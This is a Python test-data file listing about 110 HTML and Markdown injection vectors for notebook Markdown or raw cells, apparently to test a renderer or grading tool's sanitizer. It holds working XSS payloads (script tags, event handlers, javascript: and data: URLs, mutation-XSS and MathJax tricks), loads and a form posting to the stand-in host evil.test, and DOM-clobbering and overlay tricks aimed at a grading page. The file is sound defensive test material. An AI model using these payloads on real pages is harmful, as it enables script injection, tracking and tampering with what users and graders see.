"""Injection attempts as texts for a Markdown or raw cell: they run script, load something or overlap other cells.

Each calls ``xss(...)`` where it runs, or names the host ``evil.test`` where it loads.
"""

HTML = r'''
<script>xss(1)</script>
<ScRiPt>xss(2)</sCrIpT>
<script src=//evil.test/a.js></script>
<script/x>xss(3)</script>
<<script>xss(4)//<</script>
<scr<script>ipt>xss(5)</scr</script>ipt>
<img src=x onerror=xss(6)>
<img src="x" onerror="xss(7)"/>
<IMG """><SCRIPT>xss(8)</SCRIPT>">
<img/src=x/onerror=xss(9)>
<img src=x:x onerror=xss(10)//
<img src='http://evil.test/beacon.png'>
<img srcset="http://evil.test/beacon2.png 1x">
<svg onload=xss(11)>
<svg><script>xss(12)</script></svg>
<svg><animate onbegin=xss(13) attributeName=x dur=1s>
<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='xss(14)'/></svg>#x"></svg>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=xss(15)&gt;">
<math href="javascript:xss(16)">click</math>
<form><math><mtext></form><form><mglyph><style></math><img src onerror=xss(17)>
<noscript><p title="</noscript><img src=x onerror=xss(18)>">
<iframe src="javascript:xss(19)"></iframe>
<iframe srcdoc="<script>parent.xss(20)</script>"></iframe>
<object data="data:text/html,<script>parent.xss(21)</script>"></object>
<embed src="http://evil.test/e.swf">
<base href="http://evil.test/">
<meta http-equiv="refresh" content="0;url=http://evil.test/refresh">
<link rel=stylesheet href="http://evil.test/a.css">
<style>@import url(http://evil.test/b.css); body { display: none }</style>
<div style="position:fixed;inset:0;background:url(http://evil.test/c.png);z-index:9999">covers</div>
<form action="http://evil.test/f"><button>Full credit</button></form>
<input autofocus onfocus=xss(22)>
<body onload=xss(23)>
<details open ontoggle=xss(24)>
<video><source onerror=xss(25)></video>
<video poster=http://evil.test/p.png></video>
<audio src=http://evil.test/a.mp3 autoplay>
<marquee onstart=xss(26)>
<select autofocus onfocus=xss(27)>
<textarea autofocus onfocus=xss(28)>
<keygen autofocus onfocus=xss(29)>
<x onclick=xss(30) autofocus tabindex=1 onfocus=xss(31)>
<template><script>xss(32)</script></template>
<!--[if gte IE 4]><script>xss(33)</script><![endif]-->
<!-- --!><script>xss(34)</script> -->
<![CDATA[<script>xss(35)</script>]]>
<?xml version="1.0"?><script>xss(36)</script>
</div></div></div><script>xss(37)</script>
</textarea></title></style></script><script>xss(38)</script>
<a href="javascript:xss(39)">a</a>
<a href="jav&#x09;ascript:xss(40)">a</a>
<title>taken</title><plaintext>
<portal src=http://evil.test/portal>
<isindex action=javascript:xss(41) type=image>
<b id="recommendation">clobbers</b>
'''.strip().split("\n")

MARKDOWN = [
    "[a](javascript:xss(50))",
    "[a](JaVaScRiPt:xss(51))",
    "[a](java\tscript:xss(52))",
    "[a](&#106;avascript:xss(53))",
    "[a](java&Tab;script&colon;xss(54))",
    "[a](<javascript:xss(55)>)",
    "[a]( \x01javascript:xss(56))",
    "[a](data:text/html;base64,PHNjcmlwdD54c3MoNTcpPC9zY3JpcHQ+)",
    "[a](vbscript:xss(58))",
    '[a](https://ok.test "x" onmouseover=xss(59) autofocus onfocus=xss(59) ")',
    "[a][r]\n\n[r]: javascript:xss(60)",
    "[a]\n\n[a]: <javascript:xss(61)> 'title'",
    "<javascript:xss(62)>",
    "![a](http://evil.test/beacon3.png)",
    "![a][b]\n\n[b]: http://evil.test/beacon4.png",
    '![a](x"onerror="xss(63))',
    "![a](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9eHNzKDY0KT4=)",
    "[![a](http://evil.test/beacon5.png)](javascript:xss(65))",
    "!\\[a](http://evil.test/beacon6.png) !<br>[a](http://evil.test/beacon7.png)",
    "`<script>xss(66)</script>` ``` <script>xss(67)</script> ```",
    "```html\n<script>xss(68)</script>\n```",
    '```"><script>xss(69)</script>\nx\n```',
    '~~~ x" onload="xss(70)\nx\n~~~',
    "```mermaid\ngraph TD; A-->B\n</pre><script>xss(71)</script>\n```",
    "~~~MerMaid\n<img src=x onerror=xss(72)>\n~~~",
    "    <script>xss(73)</script>",
    "> <script>xss(74)</script>\n> \n> # recommendation",
    "| a | b |\n|---|---|\n| <img src=x onerror=xss(75)> | [a](javascript:xss(76)) |",
    "- <script>xss(77)</script>\n  - # largest_batch-check",
    "a[^1]\n\n[^1]: <script>xss(78)</script>",
    "*<img src=x* onerror=xss(79)>",
    "**<script**>xss(80)</script>",
    "<scr*ipt>*xss(81)</scr*ipt>*",
    "\\<script>xss(82)\\</script>",
    "&lt;script&gt;xss(83)&lt;/script&gt; &#60;img src=x onerror=xss(84)&#62;",
    "<br><img src=x onerror=xss(85)>",
    "<br>\n<sub>a</sub>\n<sub\n onclick=xss(86)>b</sub>",
    "<sub>a</sub onmouseover=xss(87)> <sup><img src=x onerror=xss(88)></sup>",
    "$<script>xss(89)</script>$ $$<img src=x onerror=xss(90)>$$",
    "\\begin{align}<img src=x onerror=xss(91)>\\end{align}",
    "\\begin{x}\\end{x}<svg onload=xss(92)>",
    "$\\href{javascript:xss(93)}{click}$ \\\\(\\require{../../evil}\\\\)",
    "$\\def\\x{\\x\\x}\\x$ $\\newcommand{\\y}{\\y\\y}\\y$ $\\style{position:fixed}{x}$ $\\cssId{recommendation}{x}$",
    "# recommendation",
    "#recommendation",
    "recommendation\n===",
    "recommendation\n---",
    "> recommendation\n> ---",
    "1. recommendation\n   ===",
    "## <img src=x onerror=xss(94)>",
    "# MathJax\n\n# formgrader",
    "Term\n: <script>xss(95)</script>",
    "- [x] <script>xss(96)</script>",
    "~~<script>~~xss(97)</script>",
    'http://ok.test/"onmouseover="xss(98)',
    "http://ok.test/<script>xss(99)</script>",
    '<http://ok.test/" onfocus=xss(100) autofocus x=">',
    "[a](files/javascript:xss(101)) <img src=files/x onerror=xss(102)>",
    "<\x00script>xss(103)</script>",
    "<\u200bscript>xss(104)</script> <\x1b[0mscript>xss(105)</script> <\x08img src=x onerror=xss(106)>",
    "＜script＞xss(107)＜/script＞",
    "<img src=x\nonerror=xss(108)\n>",
    "<a\thref='javascript:xss(109)'>a</a>",
    "a <",
    "img src=x onerror=xss(110)>",
    "{{ 7 * 7 }} {% raw %} {{ cell.source }}",
]

VECTORS = (*HTML, *MARKDOWN)
